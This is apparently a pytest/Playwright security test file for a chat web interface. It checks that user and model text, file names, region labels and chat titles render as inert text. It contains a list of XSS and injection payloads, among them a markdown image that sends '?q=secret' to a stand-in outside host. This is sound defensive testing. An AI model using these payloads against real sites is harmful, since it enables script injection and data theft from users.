"""Output is data: nothing that a model or a person wrote runs, or makes the browser fetch from elsewhere."""

from __future__ import annotations

from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import expect

from tests.browser.visitor import Visitor

PAYLOADS = (
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked = 1">',
    '"><svg onload=window.hacked=1>',
    '<iframe src="javascript:window.parent.hacked = 1"></iframe>',
    "![x](https://elsewhere.invalid/?q=secret)",
    "[x](javascript:window.hacked=1)",
    "<a href='https://elsewhere.invalid' ping='https://elsewhere.invalid'>x</a>",
    "</div></article><style>@import url(https://elsewhere.invalid/a.css)</style>",
    "${window.hacked=1} {{value}} `${alert(1)}`",
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "[x](<https://elsewhere.invalid> \"' onclick='window.hacked=1\")",
    "```<img src=x onerror=window.hacked=1>\n<script>window.hacked=1</script>\n```",
)


def unharmed(visitor: Visitor) -> None:
    visitor.page.wait_for_timeout(300)
    assert visitor.page.evaluate("window.hacked") is None
    assert visitor.elsewhere == []
    assert visitor.errors == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_question_and_answer_are_shown_as_text(payload: str, regular: Visitor) -> None:
    regular.ask(payload)  # the scripted engine repeats it as the model's words
    expect(regular.questions.last.locator(".said")).to_have_text(payload)
    assert regular.page.locator(".turn script, .turn iframe, .turn style, .turn .prose-text img").count() == 0
    unharmed(regular)


def test_labels_of_regions_are_shown_as_text(regular: Visitor, tmp_path: Path) -> None:
    Image.new("RGB", (64, 64)).save(tmp_path / "a.png")
    answer = regular.ask("tags please", tmp_path / "a.png")
    expect(answer.locator(".tag")).to_contain_text("<script>")
    answer.locator("g.region").hover()
    unharmed(regular)


def test_name_of_a_file_is_shown_as_text(visitor: Visitor, tmp_path: Path) -> None:
    file = tmp_path / '<img src=x onerror="window.hacked=1">.png'
    file.write_text("no image")
    visitor.attach(file)
    visitor.write("what is this?")
    visitor.send()
    expect(visitor.sentence).to_be_visible()
    unharmed(visitor)


def test_title_of_a_chat_is_shown_as_text(visitor: Visitor) -> None:
    visitor.ask(PAYLOADS[1])
    visitor.page.reload()
    expect(visitor.chats.get_by_role("link")).to_have_text([PAYLOADS[1]])
    unharmed(visitor)
